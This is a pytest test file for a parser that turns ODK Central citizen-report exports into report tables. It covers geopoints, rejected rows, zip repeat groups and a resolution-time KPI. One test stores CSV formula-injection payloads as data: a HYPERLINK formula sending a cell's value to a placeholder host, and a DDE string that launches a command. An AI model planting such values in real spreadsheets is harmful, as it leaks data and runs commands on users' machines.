"""ODK Central exports to citizen reports: root CSV, zip with repeat groups, hostile and broken rows,
resolution times down to the median-resolution KPI."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import logging
import statistics
import zipfile
from pathlib import Path

import polars as pl
import pytest
import shapely

from observatory.errors import DataFormatError, ParameterError
from observatory.kpi.engine import ISLAND, KpiEngine
from observatory.simulate.calendar import Window
from observatory.simulate.citizens import INGEST_OPTIONS, reports_csv
from observatory.simulate.engine import Options
from observatory.simulate.fleet import build_fleet
from observatory.simulate.scenarios import Effects
from observatory.sources.base import REJECTS_SCHEMA, REPORTS_SCHEMA
from observatory.sources.odk import (
    CENTRAL_META_COLUMNS,
    PERSONAL_COLUMNS,
    communes_at,
    parse_geopoint,
    read_export,
    read_file,
)
from observatory.territory.communes import communes
from observatory.warehouse.ingest import ingest_paths
from observatory.warehouse.store import Warehouse
from tests.releases.data import ODK_FIELDS

# the form of the release tests: groups `signalement`, `contact`, geopoint `localisation`
FIELDS = ODK_FIELDS
META = list(CENTRAL_META_COLUMNS)
HEADER = ",".join(FIELDS + META)
OPTIONS = {
    "category_field": "signalement-categorie",
    "text_fields": ["signalement-description"],
    "reporter_fields": ["SubmitterName", "contact-telephone"],
}


def row(
    uid: str,
    *,
    date: str = "2026-11-20T14:03:11.123Z",
    category: str = "voirie",
    text: str = "Nid-de-poule devant l'école",
    lat: str = "14.6012",
    lon: str = "-61.0676",
    phone: str = "0696 12 34 56",
    submitter: str = "Agent Éloïse",
    review: str = "",
) -> str:
    cells = [date, f"uuid:{uid}", category, text, lat, lon, "12.5", "4.8", phone]
    cells += [f"uuid:{uid}", "7", submitter, "1", "1", "", review, "collect:abc", "0", "2026111001"]
    return ",".join(_quote(c) for c in cells)


def _quote(cell: str) -> str:
    if any(ch in cell for ch in ',"\r\n'):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def write(path: Path, lines: list[str], newline: str = "\n") -> Path:
    path.write_bytes(newline.join(lines).encode("utf-8") + newline.encode())
    return path


# --- geopoints ----------------------------------------------------------------------------------


def test_geopoint_is_latitude_first() -> None:
    assert parse_geopoint("14.6012 -61.0676 12.5 4.8") == (-61.0676, 14.6012)
    assert parse_geopoint("14.6012 -61.0676") == (-61.0676, 14.6012)
    assert parse_geopoint("") == (None, None)


@pytest.mark.parametrize(
    "text", ["14.6", "abc -61", "14.6 -61 x", "95 -61", "14.6 -190", "1 2 3 4 5", "nan -61"]
)
def test_malformed_geopoints_raise(text: str) -> None:
    with pytest.raises(ValueError):
        parse_geopoint(text)


def test_communes_at_places_points_snaps_the_coast_and_leaves_the_sea(caplog) -> None:
    lon = [-61.0030, -61.0676, -60.8820, -61.20, None, -61.0960]
    lat = [14.5910, 14.6012, 14.4340, 14.50, 14.6, 14.6140]
    with caplog.at_level(logging.WARNING, logger="observatory.sources.odk"):
        insee = communes_at(lon, lat)
    # Lamentin airport; the Savane (20 m off the simplified coast); Sainte-Anne bourg; the sea; none; Schœlcher.
    assert insee == ["97213", "97209", "97226", None, None, "97229"]
    assert "1 point(s)" in caplog.text


# --- the root CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_root_csv_to_reports(tmp_path: Path, newline: str) -> None:
    path = write(
        tmp_path / "signalement_citoyen.csv",
        [
            HEADER,
            row("a1", text="Éclairage public en panne,\nrue Victor-Hugo", review="approved"),
            row("a2", category="dechets", lat="14.5910", lon="-61.0030", phone="", review="hasIssues"),
            row("a3", lat="", lon="", submitter=""),
        ],
        newline,
    )
    export = read_export(path, **OPTIONS)
    assert export.rejects.height == 0 and export.rejects.schema == pl.Schema(REJECTS_SCHEMA)
    reports = export.reports
    assert reports.schema == pl.Schema(REPORTS_SCHEMA)
    assert reports["report_id"].to_list() == ["uuid:a1", "uuid:a2", "uuid:a3"]
    assert reports["time"][0] == dt.datetime(2026, 11, 20, 14, 3, 11, 123000, tzinfo=dt.UTC)
    assert reports["category"].to_list() == ["voirie", "dechets", "voirie"]
    assert reports["status"].to_list() == ["approved", "hasIssues", "received"]
    assert reports["insee"].to_list() == ["97209", "97213", None]
    assert reports["lon"].to_list() == [-61.0676, -61.0030, None]
    assert reports["lat"].to_list() == [14.6012, 14.5910, None]
    # The quoted cell keeps its comma and its newline as typed, whatever ends the records.
    assert reports["text"][0] == "Éclairage public en panne,\nrue Victor-Hugo"
    assert reports["reporter"].to_list() == ["Agent Éloïse; 0696 12 34 56", "Agent Éloïse", "0696 12 34 56"]
    assert set(reports["source_system"]) == {"odk"}
    assert reports["resolved_time"].null_count() == 3


def test_personal_columns_are_declared_for_the_privacy_gate() -> None:
    assert PERSONAL_COLUMNS == ("text", "reporter")
    assert set(PERSONAL_COLUMNS) <= set(REPORTS_SCHEMA)


def test_one_cell_geopoint_and_bom(tmp_path: Path) -> None:
    header = "SubmissionDate,categorie,lieu,commentaire,KEY,SubmitterName,ReviewState"
    lines = [
        header,
        '2026-11-21T08:00:00.000Z,inondation,14.7430 -61.1760 5 3,"Ravine débordée, route coupée",uuid:b1,Jean-Marc,',
        "2026-11-21T09:30:00.000Z,inondation,14.6770 -60.9400,,uuid:b2,,rejected",
    ]
    path = tmp_path / "inondations.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "\r\n".join(lines).encode("utf-8") + b"\r\n")
    export = read_export(path, category_field="categorie", text_fields=["commentaire"], geopoint_field="lieu")
    assert export.rejects.height == 0
    assert export.reports["insee"].to_list() == ["97225", "97222"]  # Saint-Pierre, Le Robert
    assert export.reports["lon"].to_list() == [-61.1760, -60.9400]
    assert export.reports["text"].to_list() == ["Ravine débordée, route coupée", None]
    assert export.reports["status"].to_list() == ["received", "rejected"]


def test_bad_rows_are_rejected_with_their_line_and_neighbours_kept(tmp_path: Path) -> None:
    path = write(
        tmp_path / "signalement_citoyen.csv",
        [
            HEADER,
            row("ok1", text="Ligne 1\nligne 2"),  # lines 2-3
            row("d1", date="20/11/2026 14:03"),  # line 4
            row("g1", lat="14.6012", lon=""),  # line 5
            row("g2", lat="quatorze", lon="-61.07"),  # line 6
            row("d2", date="2026-11-20T14:03:11"),  # line 7: no time zone
            row("ok2") + ",extra",  # line 8: one cell too many
            '2026-11-20T14:03:11.123Z,uuid:q1,"voirie"x,',  # line 9: broken quoting
            row("ok3"),  # line 10
        ],
    )
    export = read_export(path, **OPTIONS)
    assert export.reports["report_id"].to_list() == ["uuid:ok1", "uuid:ok3"]
    rejects = export.rejects
    assert rejects["line"].to_list() == [4, 5, 6, 7, 8, 9]
    assert set(rejects["source"]) == {str(path)}
    reasons = rejects["reason"].to_list()
    assert "ISO 8601" in reasons[0] and "20/11/2026" in reasons[0]
    assert "latitude or a longitude but not both" in reasons[1]
    assert "latitude 'quatorze' is not a number" in reasons[2]
    assert "no time zone" in reasons[3]
    assert "cells where the header has" in reasons[4]
    assert "CSV syntax" in reasons[5]
    assert "uuid:d1" in rejects["text"][0]


def test_hostile_strings_are_kept_as_data(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://exemple.invalid/?q="&A1,"Cliquez ici")'
    long_text = "Très long signalement — " * 50_000  # 1.2 M characters, beyond csv's default cell limit
    path = write(
        tmp_path / "signalement_citoyen.csv",
        [
            HEADER,
            row("h1", text=formula, submitter="@SUM(1+1)*cmd|' /C calc'!A0"),
            row("h2", text=long_text),
            row("h3", text="nul\x00au milieu", category="+voirie"),
            row("h4", text="-2+3"),
        ],
    )
    export = read_export(path, **OPTIONS)
    assert export.rejects.height == 0
    texts = export.reports["text"].to_list()
    assert texts == [formula, long_text, "nul\x00au milieu", "-2+3"]
    assert export.reports["reporter"][0].startswith("@SUM(1+1)")
    assert export.reports["category"][2] == "+voirie"


def test_invalid_utf8_rejects_only_its_row(tmp_path: Path) -> None:
    good = row("u1").encode("utf-8")
    bad = row("u2", text="caf\u00e9").encode("utf-8").replace("café".encode(), b"caf\xe9")
    path = tmp_path / "signalement_citoyen.csv"
    path.write_bytes(
        HEADER.encode() + b"\n" + good + b"\n" + bad + b"\n" + good.replace(b"u1", b"u3") + b"\n"
    )
    export = read_export(path, **OPTIONS)
    assert export.reports["report_id"].to_list() == ["uuid:u1", "uuid:u3"]
    assert export.rejects.select("line", "reason").rows() == [(3, "not valid UTF-8")]


def test_gzip_csv(tmp_path: Path) -> None:
    path = tmp_path / "signalement_citoyen.csv.gz"
    path.write_bytes(gzip.compress((HEADER + "\n" + row("z1") + "\n").encode("utf-8")))
    assert read_export(path, **OPTIONS).reports["report_id"].to_list() == ["uuid:z1"]


def test_missing_columns_and_wrong_parameters_say_what_to_do(tmp_path: Path) -> None:
    path = write(tmp_path / "signalement_citoyen.csv", [HEADER, row("p1")])
    with pytest.raises(ParameterError, match="signalement-categorie") as caught:
        read_export(path, category_field="signalement-catégorie")
    assert caught.value.parameter == "category_field"
    with pytest.raises(ParameterError, match="text_fields"):
        read_export(path, category_field="signalement-categorie", text_fields=["description"])
    with pytest.raises(ParameterError, match="geopoint_field"):
        read_export(path, category_field="signalement-categorie", geopoint_field="position")
    other = write(tmp_path / "autre.csv", ["date,categorie", "2026-11-20,voirie"])
    with pytest.raises(DataFormatError, match="SubmissionDate, KEY") as caught:
        read_export(other, category_field="categorie")
    assert caught.value.line == 1
    for blank in (write(tmp_path / "vide.csv", []), tmp_path / "zero.csv"):
        blank.touch()
        with pytest.raises(DataFormatError, match="empty"):
            read_export(blank, category_field="categorie")


# --- resolution time ----------------------------------------------------------------------------

RESOLVED_HEADER = "SubmissionDate,categorie,lieu,suivi-date_resolution,KEY,SubmitterName,ReviewState"


def test_resolution_time_is_read_in_utc_and_a_bad_one_rejects_only_its_row(tmp_path: Path) -> None:
    lines = [
        RESOLVED_HEADER,
        "2026-11-21T08:00:00.000Z,voirie,14.6012 -61.0676,2026-11-22T09:30:00.250Z,uuid:v1,,approved",
        "2026-11-21T08:10:00.000Z,voirie,14.6012 -61.0676,2026-11-22T06:00:00-04:00,uuid:v2,,approved",
        "2026-11-21T08:20:00.000Z,voirie,14.6012 -61.0676,,uuid:v3,,",
        "2026-11-21T08:30:00.000Z,voirie,14.6012 -61.0676,demain matin,uuid:v4,,approved",
        "2026-11-21T08:40:00.000Z,voirie,14.6012 -61.0676,2026-11-22T06:00:00,uuid:v5,,approved",
        "2026-11-21T08:50:00.000Z,voirie,14.6012 -61.0676,2026-11-23T10:00:00+01:00,uuid:v6,,approved",
    ]
    path = write(tmp_path / "signalement_citoyen.csv", lines)
    export = read_export(
        path, category_field="categorie", geopoint_field="lieu", resolved_time_field="suivi-date_resolution"
    )
    reports = export.reports
    assert reports["report_id"].to_list() == ["uuid:v1", "uuid:v2", "uuid:v3", "uuid:v6"]
    assert reports["resolved_time"].to_list() == [
        dt.datetime(2026, 11, 22, 9, 30, 0, 250000, tzinfo=dt.UTC),
        dt.datetime(2026, 11, 22, 10, 0, tzinfo=dt.UTC),  # 06:00 in Martinique
        None,  # still open
        dt.datetime(2026, 11, 23, 9, 0, tzinfo=dt.UTC),
    ]
    rejects = export.rejects
    assert rejects["line"].to_list() == [5, 6]
    assert set(rejects["source"]) == {str(path)}
    reasons = rejects["reason"].to_list()
    assert reasons[0].startswith("suivi-date_resolution: 'demain matin' is not an ISO 8601 date-time")
    assert reasons[1].startswith("suivi-date_resolution:") and "no time zone" in reasons[1]
    assert "uuid:v4" in rejects["text"][0]


def test_without_the_option_reports_stay_unresolved(tmp_path: Path) -> None:
    path = write(
        tmp_path / "signalement_citoyen.csv",
        [RESOLVED_HEADER, "2026-11-21T08:00:00.000Z,voirie,14.6012 -61.0676,pas une date,uuid:w1,,approved"],
    )
    export = read_export(path, category_field="categorie", geopoint_field="lieu")
    assert export.rejects.height == 0
    assert export.reports["resolved_time"].to_list() == [None]


def test_a_wrong_resolution_column_is_named_with_the_closest_header_column(tmp_path: Path) -> None:
    path = write(tmp_path / "signalement_citoyen.csv", [RESOLVED_HEADER])
    with pytest.raises(ParameterError, match="suivi-date-resolution") as caught:
        read_export(
            path,
            category_field="categorie",
            geopoint_field="lieu",
            resolved_time_field="suivi-date-resolution",
        )
    assert caught.value.parameter == "resolved_time_field"
    assert "Did you mean 'suivi-date_resolution'?" in str(caught.value)


# --- the zip export with repeat groups ----------------------------------------------------------


def build_zip(path: Path, members: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text.encode("utf-8"))
    return path


def test_zip_export_returns_repeat_groups_linked_to_reports(tmp_path: Path) -> None:
    root = "\n".join([HEADER, row("r1"), row("r2", date="pas une date"), row("r3")]) + "\n"
    photos = "\n".join(
        [
            "photo,legende,PARENT_KEY,KEY",
            "1732111391123.jpg,Vue de la chaussée,uuid:r1,uuid:r1/photos[1]",
            '1732111391456.jpg,"Détail, trou profond",uuid:r1,uuid:r1/photos[2]',
            "1732111391789.jpg,Photo d'un signalement rejeté,uuid:r2,uuid:r2/photos[1]",
            "1732111391999.jpg,Orpheline,uuid:inconnu,uuid:inconnu/photos[1]",
        ]
    )
    witnesses = "\n".join(
        [
            "temoin-nom,temoin-role,PARENT_KEY,KEY",
            "Mme Joséphine,riveraine,uuid:r3/photos[1],uuid:r3/photos[1]/temoins[1]",
            "M. Césaire,passant,uuid:r1/photos[2],uuid:r1/photos[2]/temoins[1]",
        ]
    )
    path = build_zip(
        tmp_path / "signalement_citoyen.zip",
        {
            "signalement_citoyen.csv": root,
            "signalement_citoyen-photos.csv": photos + "\n",
            "signalement_citoyen-temoins.csv": witnesses + "\n",
            "media/1732111391123.jpg": "\xff\xd8 pas vraiment un jpeg",
        },
    )
    export = read_export(path, **OPTIONS)
    assert export.reports["report_id"].to_list() == ["uuid:r1", "uuid:r3"]
    assert sorted(export.repeats) == ["photos", "temoins"]
    photos_frame = export.repeats["photos"]
    assert photos_frame.columns == ["line", "photo", "legende", "PARENT_KEY", "KEY", "submission_key"]
    assert photos_frame["legende"].to_list() == [
        "Vue de la chaussée",
        "Détail, trou profond",
        "Photo d'un signalement rejeté",
    ]
    assert photos_frame["submission_key"].to_list() == ["uuid:r1", "uuid:r1", "uuid:r2"]
    assert photos_frame["line"].to_list() == [2, 3, 4]
    # A nested repeat points at a repeat row; r3's photo is missing, so its witness is an orphan.
    temoins = export.repeats["temoins"]
    assert temoins["temoin-nom"].to_list() == ["M. Césaire"]
    assert temoins["submission_key"].to_list() == ["uuid:r1"]
    rejects = export.rejects
    by_source = {s: rejects.filter(pl.col("source") == s)["line"].to_list() for s in set(rejects["source"])}
    assert by_source == {
        f"{path}!signalement_citoyen.csv": [3],
        f"{path}!signalement_citoyen-photos.csv": [5],
        f"{path}!signalement_citoyen-temoins.csv": [2],
    }
    assert rejects.filter(pl.col("line") == 5)["reason"][0].startswith("PARENT_KEY 'uuid:inconnu'")


def test_zip_finds_its_root_table_whatever_the_zip_is_called(tmp_path: Path) -> None:
    path = build_zip(
        tmp_path / "export (3).zip",
        {
            "signalement-citoyen.csv": HEADER + "\n" + row("s1") + "\n",
            "signalement-citoyen-photos.csv": "photo,PARENT_KEY,KEY\na.jpg,uuid:s1,uuid:s1/photos[1]\n",
        },
    )
    export = read_export(path, **OPTIONS)
    assert export.reports["report_id"].to_list() == ["uuid:s1"]
    assert list(export.repeats) == ["photos"]
    assert list(read_file(path, **OPTIONS))[0].reports.height == 1


def test_zip_with_a_broken_repeat_table_keeps_the_reports(tmp_path: Path) -> None:
    path = build_zip(
        tmp_path / "signalement_citoyen.zip",
        {
            "signalement_citoyen.csv": HEADER + "\n" + row("t1") + "\n",
            "signalement_citoyen-photos.csv": "photo,legende\na.jpg,sans clé\n",
        },
    )
    export = read_export(path, **OPTIONS)
    assert export.reports.height == 1 and export.repeats == {}
    assert export.rejects.select("line", "reason").rows() == [(1, "the header has no PARENT_KEY, KEY column")]


def test_unreadable_zip_and_ambiguous_tables_are_format_errors(tmp_path: Path) -> None:
    broken = tmp_path / "signalement_citoyen.zip"
    broken.write_bytes(b"PK\x03\x04" + b"\x00" * 40)
    with pytest.raises(DataFormatError, match="truncated or corrupt"):
        read_export(broken, **OPTIONS)
    cut = tmp_path / "signalement_citoyen.csv.gz"
    data = gzip.compress((HEADER + "\n" + "\n".join(row(f"c{i}") for i in range(200)) + "\n").encode())
    cut.write_bytes(data[: len(data) // 2])
    with pytest.raises(DataFormatError, match="truncated or corrupt") as caught:
        read_export(cut, **OPTIONS)
    assert "download the export" in str(caught.value)
    two = build_zip(tmp_path / "deux.zip", {"a.csv": HEADER + "\n", "b.csv": HEADER + "\n"})
    with pytest.raises(DataFormatError, match="root table"):
        read_export(two, **OPTIONS)


# --- the simulated export, through the warehouse, to the KPI ------------------------------------


def test_simulated_resolution_times_give_the_median_resolution_kpi(tmp_path: Path, data_settings) -> None:
    """The median of the KPI equals the one computed from the CSV cells alone, per commune and island."""
    days, first_day = 21, dt.date(2026, 6, 1)
    options = Options.parse(start="2026-06-01T04:00:00Z", days=days)  # local midnight
    fleet = build_fleet(data_settings)
    window = Window(options.start_ns, options.end_ns)
    export = tmp_path / "signalement_citoyen.csv"
    export.write_bytes(
        reports_csv(options.seed, fleet, window, Effects((), window, fleet, options.seed, data_settings))
    )

    polygons = communes(data_settings)
    by_place: dict[str, list[float]] = {}
    with open(export, newline="", encoding="utf-8") as handle:
        for cells in csv.DictReader(handle):
            if not cells["suivi-date_resolution"]:
                continue
            sent = dt.datetime.fromisoformat(cells["SubmissionDate"])
            resolved = dt.datetime.fromisoformat(cells["suivi-date_resolution"])
            lon, lat = parse_geopoint(cells["signalement-localisation"])
            insee = polygons[polygons.geometry.contains(shapely.Point(lon, lat))]["insee"].item()
            for place in (insee, ISLAND):
                by_place.setdefault(place, []).append((resolved - sent).total_seconds() / 86_400)
    assert len(by_place[ISLAND]) > 500 and len(by_place) > 20

    with Warehouse.open(tmp_path / "warehouse.duckdb", config=data_settings) as warehouse:
        warehouse.load_communes(data_settings)
        (report,) = ingest_paths(warehouse, [export], **INGEST_OPTIONS)
        assert report.rejected == 0
        frame = KpiEngine(warehouse).compute(
            kpi_ids=["report_resolution_days"],
            start=first_day,
            end=first_day + dt.timedelta(days=days),
            grain="range",
        )
    values = dict(zip(frame["place"], frame["value"], strict=True))
    assert values == pytest.approx({p: statistics.median(v) for p, v in by_place.items()}, rel=1e-9)
    assert set(frame["period_start"]) == {first_day}
